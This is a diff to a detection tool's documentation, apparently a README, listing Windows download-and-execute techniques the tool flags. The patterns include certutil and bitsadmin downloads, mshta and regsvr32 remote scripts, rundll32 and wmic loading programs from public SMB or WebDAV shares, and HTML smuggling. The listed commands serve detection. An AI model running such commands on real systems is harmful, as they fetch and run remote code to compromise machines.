@@ -11,7 +11,11 @@ What it catches
     made for something else doing the download (`certutil -urlcache`, `bitsadmin
     /transfer`), or the download XORed back into a program before it is run (kept encoded
     on the server so no proxy sees an executable). Also a system binary told to run a remote script
-    directly (`mshta http://...`, `regsvr32 /i:http://... scrobj.dll`, `rundll32 javascript:`).
+    directly (`mshta http://...`, `regsvr32 /i:http://... scrobj.dll`, `rundll32 javascript:`),
+    or to run a DLL, installer or program straight from a share on a public address or over
+    WebDAV (`rundll32 \\\\203.0.113.7\\s\\x.dll,Entry`, `wmic ... process call create
+    "\\\\198.51.100.23\\pub\\x.exe"`, `regsvr32 /i:\\\\host@SSL\\...`); a share on one's
+    own network (a private address, a file server's name) is how software is deployed.
     And its in-page form, HTML smuggling: a page that decodes a program from its own data into
     a blob and saves it under a program's name (`a.download = 'scan.pdf.exe'`), so that no
     proxy ever sees the file fetched (`smuggling.py`).
